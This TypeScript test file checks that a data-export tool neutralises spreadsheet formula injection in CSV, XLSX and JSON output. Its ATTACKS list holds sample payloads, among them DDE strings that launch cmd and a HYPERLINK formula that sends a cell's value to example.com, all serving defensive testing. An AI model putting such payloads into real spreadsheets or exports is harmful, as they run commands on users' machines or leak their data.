/** Texts that a spreadsheet would run, in each format that rows are written in: a text that was text stays text. */
import { describe, expect, it } from 'vitest';
import { formatNamed } from '../../src/files/formats/formats.ts';
import { harmless } from '../../src/files/formulas.ts';
import { cells, scanRow } from '../../src/files/rows.ts';
import { xlsxRows } from '../../src/files/xlsx.ts';
import { openDocument, readingOf } from '../bulk/table-files.ts';

const IBAN = 'DE89370400440532013000';
/** Attacks, by how they begin. */
const ATTACKS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '=HYPERLINK("https://example.com/?"&A1,"click")',
  '=DDE("cmd";"/C calc";"x")',
  '=IMPORTXML("https://example.com","//a")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '+49 30 901820',
];
/** What is shown as it is, and runs nothing. */
const PLAIN = [
  '+4930901820',
  '-12.50',
  '-1',
  "'=1+1",
  'a=b',
  '1-2',
  '"=1+1"',
  '007',
  '12345678901234567890',
  '1.50',
  '',
];

it.each(ATTACKS)('%j gets an apostrophe', (text) => expect(harmless(text)).toBe(`'${text}`));
it.each(PLAIN)('%j stays as it is', (text) => expect(harmless(text)).toBe(text));

const ROWS = [...ATTACKS, ...PLAIN].map((text) => [text, 'x']);

async function writtenAs(format: string, areTexts: boolean, delimiter?: string): Promise<Buffer> {
  const writer = await formatNamed(format).write!({
    names: ['=name', 'b'],
    header: true,
    above: [['=title']],
    areTexts,
    ...(delimiter !== undefined && { delimiter }),
  });
  return Buffer.concat([...ROWS.flatMap((row) => writer.row(row)), ...writer.end()]);
}

function cellsIn(text: string, delimiter: string): string[][] {
  const rows: string[][] = [];
  for (let at = 0; at < text.length; ) {
    at = scanRow(text, at, delimiter.charCodeAt(0));
    rows.push(cells(text));
  }
  return rows;
}

describe('rows of texts', () => {
  it.each([',', ';', '\t'])('in CSV by %j: header, titles and cells', async (delimiter) => {
    const rows = cellsIn((await writtenAs('csv', true, delimiter)).toString(), delimiter);
    expect(rows.slice(0, 2)).toEqual([["'=title"], ["'=name", 'b']]);
    expect(rows.slice(2).map(([first]) => first)).toEqual(ROWS.map(([first]) => harmless(first!)));
  });

  it('in CSV hide no formula behind a sign that another program takes for the one between cells', async () => {
    const writer = await formatNamed('csv').write!({ names: [], header: false, areTexts: true });
    const text = Buffer.concat([...writer.row(['a;=1+1', 'b\t@x', 'c;d']), ...writer.end()]).toString();
    expect(text).toBe('"a;=1+1","b\t@x",c;d\n');
  });

  it('in XLSX are cells of text, without an apostrophe', async () => {
    const bytes = await writtenAs('xlsx', true);
    const read: string[][] = [];
    async function* file() {
      yield bytes;
    }
    for await (const row of xlsxRows(file(), { trim: false })) read.push(row);
    expect(read.slice(0, 2)).toEqual([['=title'], ['=name', 'b']]);
    // XML has no return of its own: it comes back as Excel writes it.
    const shown = (text: string) => text.replace('\r', '_x000D_');
    expect(read.slice(2)).toEqual(ROWS.map(([first, second]) => [shown(first!), second]));
    expect(Buffer.from(bytes).includes('<f>')).toBe(false);
  });

  it.each(['ndjson', 'json'])('in %s stay as they are', async (format) => {
    const text = (await writtenAs(format, true)).toString();
    const objects =
      format === 'json'
        ? JSON.parse(text)
        : text
            .trimEnd()
            .split('\n')
            .map((line) => JSON.parse(line));
    expect(objects.map((row: Record<string, string>) => row['=name'])).toEqual(ROWS.map(([first]) => first));
  });
});

it('of CSV stay as they are in CSV, byte for byte', async () => {
  const lines = [...ATTACKS, ...PLAIN].map((text) => `"${text.replaceAll('"', '""')}",${IBAN}`);
  const text = `=name,IBAN\n${lines.join('\n')}\n`;
  const { output, rows } = await readingOf(Buffer.from(text), 'a.csv');
  expect(rows).toBe(lines.length);
  expect(output.slice(1).map(([first]) => first)).toEqual([...ATTACKS, ...PLAIN]);
});

it('names that come twice are told apart where a row is an object', async () => {
  const writer = await formatNamed('ndjson').write!({ names: ['IBAN', 'IBAN', '', 'IBAN 2'], header: true });
  const text = Buffer.concat([...writer.row(['a', 'b', 'c', 'd']), ...writer.end()]).toString();
  expect(JSON.parse(text)).toEqual({ IBAN: 'a', 'IBAN 3': 'b', '': 'c', 'IBAN 2': 'd' });
});

it('numbers keep their digits in workbooks that are read', async () => {
  const bytes = openDocument({
    a: [
      ['IBAN', 'n'],
      [IBAN, '00012345678901234567890'],
    ],
  });
  const { output } = await readingOf(bytes, 'a.ods');
  expect(output[1]!.slice(0, 2)).toEqual([IBAN, '00012345678901234567890']);
});
